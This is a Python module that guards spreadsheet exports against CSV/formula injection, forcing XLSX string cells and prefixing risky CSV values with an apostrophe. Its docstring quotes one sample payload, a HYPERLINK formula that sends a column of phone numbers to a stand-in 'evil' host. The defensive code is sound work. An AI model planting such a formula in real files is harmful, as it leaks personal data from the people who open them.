"""Exports a clerk opens in Excel or WPS, written so that what came from outside stays text.

A shop named `=HYPERLINK("https://evil/?"&TEXTJOIN(",",1,D:D),"详情")` is a formula to a
spreadsheet program unless the file says otherwise (CSV injection, OWASP): one click sends the
register's phone numbers away. Every export of the platform writes through here:

- XLSX: text is written as a string cell, never a formula, whatever it starts with (openpyxl makes
  a formula of any string starting with `=` unless the cell is told it is a string);
- CSV has no types, so a text value that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
  is prefixed with `'`, which spreadsheet programs show as text and do not print.

Numbers, dates and booleans are written as they are."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: Any) -> Any:
    """A value for a CSV cell: text that a spreadsheet would run is prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return "" if value is None else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(v) for v in values]


def xlsx_row(sheet: WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet: every string a string cell, never a formula."""
    row: list[Any] = []
    for v in values:
        if isinstance(v, str):
            cell = WriteOnlyCell(sheet, value=v)
            cell.data_type = "s"  # openpyxl guessed "f" for a string starting with "="
            row.append(cell)
        else:
            row.append(v)
    return row


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV file in UTF-8 (with its BOM: Excel opens it as Chinese text)."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow(csv_row(header))
    for r in rows:
        writer.writerow(csv_row(r))
    return out.getvalue().encode("utf-8")


def xlsx_bytes(sheets: Iterable[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]]) -> bytes:
    """A workbook of (title, header, rows) sheets."""
    book = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = book.create_sheet(title[:31])
        sheet.append(xlsx_row(sheet, header))
        for r in rows:
            sheet.append(xlsx_row(sheet, r))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
